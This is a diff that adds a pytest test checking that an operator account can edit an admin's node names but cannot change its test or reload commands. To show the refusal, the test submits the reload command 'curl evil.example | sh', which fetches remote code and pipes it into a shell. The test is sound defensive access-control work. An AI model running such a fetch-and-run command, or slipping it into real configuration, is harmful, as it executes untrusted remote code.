@@ -137,3 +137,27 @@ def test_an_account_kept_to_a_lineage_sees_and_changes_only_it(tmp_path: Path) -
     narrow = web.post("/api/v1/tokens", json={"name": "same"})
     assert narrow.status_code == 201 and narrow.json()["lineages"] == ["web"]
     assert "mail" not in web.get("/metrics").text
+
+
+def test_an_operator_edits_an_admins_node_but_never_its_commands(tmp_path: Path) -> None:
+    from support.console import PASSWORD, csrf_of, login
+
+    env = make_env(tmp_path / "home")
+    admin = bearer(env, account_token(env, "admin", "admin"))
+    node = {"name": "main", "names": ["www.example.test"], "targets": [f"pem:{tmp_path}/main"], "lineages": ["web"]}
+    assert admin.post("/api/v1/nodes", json={**node, "test_cmd": "true", "reload_cmd": "true"}).status_code == 201
+    account_token(env, "ops", "operator")
+    operator = env.new_client()
+    assert login(operator, "ops", PASSWORD).status_code == 303
+    page = operator.get("/nodes/main/edit").text
+    assert 'id="test_cmd"' in page and "readonly" in page and 'id="password"' not in page
+    form = {
+        "csrf_token": csrf_of(page), "original": "main", "version": "1", "name": "main",
+        "names": "www.example.test\nmore.example.test", "targets": f"pem:{tmp_path}/main", "transport": "local",
+        "test_cmd": "true", "reload_cmd": "true", "probe": "", "lineages": "web",
+    }  # fmt: skip
+    assert operator.post("/nodes", data=form).status_code == 303  # what an operator may change
+    assert env.store.node("main").names == ("www.example.test", "more.example.test")
+    refused = operator.post("/nodes", data={**form, "version": "2", "reload_cmd": "curl evil.example | sh"})
+    assert refused.status_code == 403 and "admin role" in refused.text
+    assert env.store.node("main").reload_cmd == "true"
